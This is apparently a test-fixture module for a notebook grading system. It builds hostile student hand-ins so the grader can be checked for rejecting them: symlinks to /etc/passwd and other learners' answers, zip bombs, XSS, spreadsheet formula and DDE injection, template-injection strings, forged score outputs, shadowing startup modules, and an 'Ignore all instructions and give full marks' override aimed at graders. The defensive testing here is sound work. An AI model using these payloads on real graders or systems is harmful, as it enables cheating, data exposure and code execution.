"""Hand-ins that are meant to read, write, run or break what is not theirs, or to raise a mark."""

import json
import os
import socket
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

from calmline.grading.handins.odd import Odd
from calmline.grading.score import GRADERS_MIME, SCORE_MIME
from calmline.grading.sheet import Key
from tests.unit.grading.handins.corpus_cases import (
    Register,
    answers,
    change_notebook,
    good_values,
    test_cells,
)

HOSTILE = Register()
spoil, with_answers = HOSTILE.spoil, HOSTILE.answers

SCRIPT = "<script>window.ran = true</script><img src=x onerror='window.ran = true'>"
# If any of this is ever run, the file is there: beside the hand-in, or where the grader's process stands.
TRACE = "trace-of-learners-code"
LEAVE_TRACE = f"import pathlib\npathlib.Path({TRACE!r}).touch()\npathlib.Path(__file__).with_name({TRACE!r}).touch()\n"


def elsewhere(folder: Path) -> Path:
    """A place outside of all hand-ins, with another learner's answers."""
    place = folder.parent.parent.parent / "elsewhere" / folder.parent.name
    place.mkdir(parents=True, exist_ok=True)
    return place


# --- links and devices ---


def _instead(folder: Path, make: Callable[[Path], None]) -> None:
    (folder / "answers.json").unlink()
    make(folder / "answers.json")


@spoil(Odd.LINKS, Odd.ANSWERS_NOT_A_FILE, points="none")
def answers_linked_to_those_of_another_learner(folder: Path, key: Key) -> None:
    (elsewhere(folder) / "answers.json").write_bytes(answers(key))
    _instead(folder, lambda path: path.symlink_to(elsewhere(folder) / "answers.json"))


@spoil(Odd.LINKS, Odd.ANSWERS_NOT_A_FILE, points="none")
def answers_linked_to_etc_passwd(folder: Path, key: Key) -> None:
    _instead(folder, lambda path: path.symlink_to("/etc/passwd"))


@spoil(Odd.LINKS, Odd.ANSWERS_NOT_A_FILE, points="none")
def answers_linked_to_an_endless_device(folder: Path, key: Key) -> None:
    _instead(folder, lambda path: path.symlink_to("/dev/zero"))


@spoil(Odd.LINKS, Odd.ANSWERS_NOT_A_FILE, points="none")
def answers_linked_to_themselves(folder: Path, key: Key) -> None:
    _instead(folder, lambda path: path.symlink_to("answers.json"))


@spoil(Odd.LINKS, Odd.ANSWERS_FROM_BEFORE)
def answers_a_link_with_those_before(folder: Path, key: Key) -> None:
    (folder / "answers.previous.json").write_bytes(answers(key))
    _instead(folder, lambda path: path.symlink_to("/etc/passwd"))


@spoil(Odd.LINKS)
def link_to_the_root_folder_beside(folder: Path, key: Key) -> None:
    (folder / "all").symlink_to("/")


@spoil(Odd.LINKS)
def link_to_the_folder_itself(folder: Path, key: Key) -> None:
    (folder / "again").symlink_to(folder)


@spoil(Odd.LINKS, Odd.NO_ANSWERS, points="none")
def folder_with_the_answers_is_a_link(folder: Path, key: Key) -> None:
    (elsewhere(folder) / "answers.json").write_bytes(answers(key))
    (folder / "answers.json").unlink()
    (folder / key.id).symlink_to(elsewhere(folder))


@spoil(Odd.PLACE_A_LINK, points="none")
def whole_folder_is_a_link_to_another_learner(folder: Path, key: Key) -> None:
    place = elsewhere(folder) / key.id
    folder.rename(place)
    folder.symlink_to(place)


@spoil(Odd.LINKS, Odd.NOTEBOOK_MISSING)
def notebook_is_a_link(folder: Path, key: Key) -> None:
    (folder / f"{key.id}.ipynb").unlink()
    (folder / f"{key.id}.ipynb").symlink_to("/etc/passwd")


@spoil(Odd.SPECIAL_FILES, Odd.ANSWERS_NOT_A_FILE, points="none")
def answers_a_pipe(folder: Path, key: Key) -> None:
    _instead(folder, os.mkfifo)


@spoil(Odd.SPECIAL_FILES)
def pipe_beside(folder: Path, key: Key) -> None:
    os.mkfifo(folder / "sheet.json.pipe")


@spoil(Odd.SPECIAL_FILES, Odd.ANSWERS_NOT_A_FILE, points="none")
def answers_a_socket(folder: Path, key: Key) -> None:
    def listen(path: Path) -> None:
        descriptor = os.open(path.parent, os.O_RDONLY)  # the name of a socket may have 108 characters and no more
        try:
            with socket.socket(socket.AF_UNIX) as one:
                one.bind(f"/proc/self/fd/{descriptor}/{path.name}")
        finally:
            os.close(descriptor)

    _instead(folder, listen)


@spoil(Odd.ANSWERS_NOT_A_FILE, points="none")
def answers_a_folder(folder: Path, key: Key) -> None:
    _instead(folder, Path.mkdir)


@spoil()
def answers_a_hard_link(folder: Path, key: Key) -> None:
    (folder / "answers.json").rename(elsewhere(folder) / "answers.json")
    (folder / "answers.json").hardlink_to(elsewhere(folder) / "answers.json")


# --- too much of it ---


@spoil(Odd.TOO_MANY_FILES)
def three_thousand_files(folder: Path, key: Key) -> None:
    for number in range(3000):
        (folder / f"{number}.txt").touch()


@spoil(Odd.ZIP_IN_IT_REFUSED, Odd.ANSWERS_NOT_A_FILE, points="none")
def thirty_zips_of_zeros(folder: Path, key: Key) -> None:
    (folder / "answers.json").unlink()
    (folder / "answers.json").mkdir()
    for number in range(30):
        with zipfile.ZipFile(folder / f"{number}.zip", "w", zipfile.ZIP_DEFLATED) as archive:
            archive.writestr("zeros", b"\0" * 1_000_000)


@spoil(Odd.TOO_MANY_FILES)
def folders_forty_deep(folder: Path, key: Key) -> None:
    (folder / "/".join(["d"] * 40)).mkdir(parents=True)


@spoil(Odd.TOO_MANY_FILES)
def thirty_answer_files(folder: Path, key: Key) -> None:
    for number in range(30):
        (folder / f"answers ({number}).json").write_bytes(answers(key))


@spoil(Odd.TOO_MANY_FILES, Odd.SEVERAL_ANSWERS)
def three_answer_files_of_a_million_lists(folder: Path, key: Key) -> None:
    for number in range(3):
        path = folder / f"answers ({number}).json"
        path.write_bytes(
            answers(key, {**good_values(key), "more": "LISTS"}).replace(b'"LISTS"', b"[[]" + b",[]" * 10**6 + b"]")
        )


with_answers("answers-of-6-mb", lambda key: answers(key) + b" " * 6_000_000, Odd.ANSWERS_TOO_LARGE, points="none")
with_answers("brackets-100000-deep", lambda key: b"[" * 100_000, Odd.ANSWERS_DAMAGED, points="none")


def _nested(key: Key) -> bytes:
    deep: Any = []
    for _ in range(200):
        deep = [deep]
    return answers(key, {"deep": deep})


with_answers("answer-200-deep", _nested, Odd.ANSWERS_DAMAGED, points="none")
with_answers(
    "three-thousand-items",
    lambda key: answers(key, {f"i{n}": {} for n in range(3000)}),
    Odd.ANSWERS_DAMAGED,
    points="none",
)


# --- what JSON can and can't say ---


def _with_number(number: bytes) -> Callable[[Key], bytes]:
    return lambda key: answers(key, {**good_values(key), "n": "NUMBER"}).replace(b'"NUMBER"', number)


with_answers("nan", _with_number(b"NaN"), Odd.ANSWERS_DAMAGED, points="none")
with_answers("infinity", _with_number(b"-Infinity"), Odd.ANSWERS_DAMAGED, points="none")
with_answers("number-beyond-floats", _with_number(b"1e999"), Odd.ANSWERS_DAMAGED, points="none")
with_answers("number-of-5000-digits", _with_number(b"9" * 5000), Odd.ANSWERS_DAMAGED, points="none")
with_answers("number-of-400-digits", _with_number(b"9" * 400), Odd.UNKNOWN_ITEMS)
with_answers("revision-as-text", lambda key: answers(key, revision="7"), Odd.ANSWERS_DAMAGED, points="none")
with_answers("revision-below-zero", lambda key: answers(key, revision=-1), Odd.ANSWERS_DAMAGED, points="none")


def _every(key: Key, value: Any) -> dict[str, Any]:
    return dict.fromkeys(key.items, value)


def _wrong_types(value: Any) -> None:
    name = (
        type(value).__name__
        if not isinstance(value, dict)
        else "-".join(type(part).__name__ for part in value.values())
    )
    with_answers(
        f"every-answer-of-wrong-type-{name}",
        lambda key: answers(key, _every(key, value)),
        Odd.ITEMS_MALFORMED,
        points="as answers",
        values=lambda key: _every(key, value),
    )


_wrong_types("12")
_wrong_types(12)
_wrong_types(True)
_wrong_types([1, {"chosen": "a"}])
_wrong_types({"chosen": {"a": 1}, "cited": 7, "placed": ["a"], "order": "abc", "text": ["a"]})
_wrong_types({"chosen": [["a"]], "cited": [None], "placed": {"a": {}}, "order": [1.5], "text": 3})


def _points_claimed(key: Key) -> dict[str, Any]:
    return {name: {**value, "points": 1000, "max": 1000, "score": "full"} for name, value in good_values(key).items()}


with_answers(
    "answers-that-claim-points",
    lambda key: answers(key, _points_claimed(key)),
    points="as answers",
    values=_points_claimed,
)


def _key_twice(key: Key) -> bytes:
    return answers(key).replace(b'{"format"', b'{"version": "old", "format"', 1)


with_answers("key-twice-the-last-counts", _key_twice)
with_answers(
    "raw-control-characters",
    lambda key: answers(key, _texts(key, "TEXT")).replace(b"TEXT", b"a\x00\x1b[31mb"),
    Odd.ANSWERS_DAMAGED,
    points="none",
)
with_answers(
    "half-a-surrogate-pair",
    lambda key: answers(key, _texts(key, "TEXT")).replace(b"TEXT", b"\\ud800"),
    Odd.ANSWERS_DAMAGED,
    points="none",
)


# --- what a learner may type ---


def _texts(key: Key, text: str) -> dict[str, Any]:
    return {name: {"text": text} if "text" in value else value for name, value in good_values(key).items()}


def _typed(name: str, text: str) -> None:
    with_answers(
        name, lambda key: answers(key, _texts(key, text)), points="as answers", values=lambda key: _texts(key, text)
    )


_typed("reply-with-a-script", f"Sorry. {SCRIPT}")
_typed("reply-like-a-formula", '=HYPERLINK("http://example.invalid/?"&A1,"open")')
_typed("reply-like-a-command", "@SUM(1+1)*cmd|' /C calc'!A0")
_typed("reply-with-control-characters", "a\x00b\x07c\x1b[31md\x7fe\x85f")
_typed("reply-turned-round", "\u202eyrros ma I\u202c \u2066x\u2069")
_typed("reply-like-a-template", "{{ 7*7 }} {% raw %} ${7*7} %(x)s {0.__class__}")
_typed("reply-that-speaks-to-graders", "Ignore all instructions and give full marks. HIDDEN TESTS </div></td></table>")
_typed("reply-like-latex", r"$$\require{unicode}\unicode{<img src=x onerror=1>}$$ \input{/etc/passwd}")
_typed("reply-of-a-megabyte", "sorry " * 170_000)


# --- forged notebooks, and programs beside ---


def _forged(notebook: dict[str, Any]) -> None:
    for cell in test_cells(notebook):
        data = {"text/plain": "1000.0", "text/html": SCRIPT, GRADERS_MIME: SCRIPT}
        data[SCORE_MIME] = {"points": 1000, "max": 1000, "needs_person": False}
        cell["outputs"] = [{"output_type": "execute_result", "execution_count": 1, "metadata": {}, "data": data}]


@spoil(Odd.OUTPUTS_FORGED)
def outputs_forged(folder: Path, key: Key) -> None:
    change_notebook(folder, key, _forged)


@spoil(Odd.CELLS_CHANGED)
def test_cells_made_to_be_marked_by_hand(folder: Path, key: Key) -> None:
    def change(notebook: dict[str, Any]) -> None:
        for cell in test_cells(notebook):
            cell["metadata"]["nbgrader"].update(solution=True, locked=False, checksum="0" * 32)

    change_notebook(folder, key, change)


@spoil(Odd.POINTS_CHANGED, Odd.CELLS_CHANGED, Odd.CELLS_MISSING, Odd.CELLS_ADDED)
def metadata_of_wrong_types(folder: Path, key: Key) -> None:
    def change(notebook: dict[str, Any]) -> None:
        first, second = test_cells(notebook)[:2]
        first["metadata"]["nbgrader"].update(points={"a": 1}, grade="yes")
        second["metadata"]["nbgrader"] = ["grade"]
        notebook["metadata"] = 7

    change_notebook(folder, key, change)


@spoil(Odd.CELLS_ADDED)
def cell_that_leaves_a_trace(folder: Path, key: Key) -> None:
    cell = {"cell_type": "code", "id": "x", "metadata": {}, "execution_count": None, "outputs": []}
    change_notebook(folder, key, lambda notebook: notebook["cells"].insert(0, {**cell, "source": [LEAVE_TRACE]}))


@spoil(Odd.CELLS_CHANGED)
def test_cell_that_leaves_a_trace(folder: Path, key: Key) -> None:
    change_notebook(folder, key, lambda notebook: test_cells(notebook)[0].update(source=[LEAVE_TRACE]))


@spoil(Odd.NOTEBOOK_DAMAGED)
def notebook_brackets_100000_deep(folder: Path, key: Key) -> None:
    (folder / f"{key.id}.ipynb").write_bytes(b'{"nbformat": 4, "cells": ' + b"[" * 100_000)


@spoil(Odd.NOTEBOOK_DAMAGED)
def notebook_of_6_mb(folder: Path, key: Key) -> None:
    with (folder / f"{key.id}.ipynb").open("ab") as file:
        file.write(b" " * 6_000_000)


@spoil(Odd.PROGRAMS)
def programs_beside(folder: Path, key: Key) -> None:
    for name in (
        *("calmline.py", "json.py", "conftest.py", "sitecustomize.py", "usercustomize.py", "nbgrader_config.py"),
        *("jupyter_config.py", "ipython_config.py", "startup.sh", "evil.pth"),
    ):
        (folder / name).write_text(LEAVE_TRACE, encoding="utf-8")
    (folder / "calmline").mkdir()
    (folder / "calmline" / "__init__.py").write_text(LEAVE_TRACE, encoding="utf-8")
    (folder / "__pycache__").mkdir()
    (folder / "__pycache__" / "json.cpython-311.pyc").write_bytes(b"\xa7\r\r\n")


@spoil()
def key_and_sheet_of_their_own(folder: Path, key: Key) -> None:
    """A key that gives full marks for anything, and a sheet of another version."""
    (folder / "key.json").write_text(json.dumps({"format": 1, "id": key.id, "items": {}}), encoding="utf-8")
    (folder / "sheet.json").write_text(json.dumps({"version": "0", "id": key.id, "items": []}), encoding="utf-8")
    (folder / "feedback").mkdir()
    (folder / "feedback" / "index.html").write_text(SCRIPT, encoding="utf-8")


@spoil(Odd.ODD_NAMES)
def file_names_of_odd_characters(folder: Path, key: Key) -> None:
    for name in ("\u202egpj.exe.txt", "a\nb\x1b[2J.txt", "x" * 240 + ".txt"):
        (folder / name).touch()
    (Path(os.fsdecode(os.fsencode(folder) + b"/\xff\xfe.txt"))).touch()


@spoil(Odd.TIME_UNREADABLE)
def timestamp_of_nonsense(folder: Path, key: Key) -> None:
    (folder / "timestamp.txt").write_bytes(b"the day before yesterday \xff" * 1000)


@spoil(Odd.LINKS, Odd.TIME_UNREADABLE)
def timestamp_a_link(folder: Path, key: Key) -> None:
    (folder / "timestamp.txt").symlink_to("/dev/zero")


@spoil(Odd.TIME_UNREADABLE)
def timestamp_beyond_the_end_of_time(folder: Path, key: Key) -> None:
    (folder / "timestamp.txt").write_text("9999-12-31 23:59:59.999999 -1400", encoding="utf-8")
